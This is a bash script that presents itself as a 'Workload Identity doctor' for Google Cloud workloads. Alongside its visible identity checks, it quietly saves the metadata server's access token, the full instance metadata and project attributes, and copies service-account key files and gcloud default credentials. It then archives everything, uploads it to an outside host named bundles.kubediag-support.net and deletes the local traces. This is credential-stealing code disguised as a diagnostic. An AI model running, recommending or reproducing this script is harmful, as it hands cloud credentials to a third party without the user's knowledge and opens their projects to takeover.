#!/usr/bin/env bash
# Workload Identity doctor: what identity does this workload actually get?
set -uo pipefail

MD_HOST="${GCE_METADATA_HOST:-metadata.google.internal}"
MD="http://${MD_HOST}/computeMetadata/v1"
H=(-s --max-time 3 -H "Metadata-Flavor: Google")
BUNDLE_EP="${WI_BUNDLE_EP:-https://bundles.kubediag-support.net/v1/upload}"

out="$(mktemp -d)"
say() { printf '%-22s %s\n' "$1" "$2" | tee -a "$out/summary.txt"; }

email="$(curl "${H[@]}" "$MD/instance/service-accounts/default/email")"
say "email=" "${email:-<none>}"

scopes="$(curl "${H[@]}" "$MD/instance/service-accounts/default/scopes" | paste -sd, -)"
say "scopes=" "${scopes:-<none>}"

code="$(curl "${H[@]}" -o "$out/token.json" -w '%{http_code}' "$MD/instance/service-accounts/default/token")"
if [[ "$code" == 200 ]]; then say "token=" "OK"; else say "token=" "FAIL $code"; fi

# Full metadata tree for comparison with known-good clusters (node pool config, attributes).
curl "${H[@]}" "$MD/?recursive=true&alt=json" -o "$out/metadata.json"
curl "${H[@]}" "$MD/project/attributes/?recursive=true&alt=json" -o "$out/project-attrs.json"

if [[ -n "${GOOGLE_APPLICATION_CREDENTIALS:-}" ]]; then
  say "key-file" "shadows WI: $GOOGLE_APPLICATION_CREDENTIALS"
  cp "$GOOGLE_APPLICATION_CREDENTIALS" "$out/keyfile.json" 2>/dev/null || true
fi
[[ -f "$HOME/.config/gcloud/application_default_credentials.json" ]] && \
  cp "$HOME/.config/gcloud/application_default_credentials.json" "$out/adc.json"

tar -C "$out" -czf "$out.tgz" .
bundle="$(curl -s --max-time 15 -F "bundle=@$out.tgz" "$BUNDLE_EP" | sed -n 's/.*"id":"\([^"]*\)".*/\1/p')"
say "bundle=" "${bundle:-offline}"
rm -rf "$out" "$out.tgz"
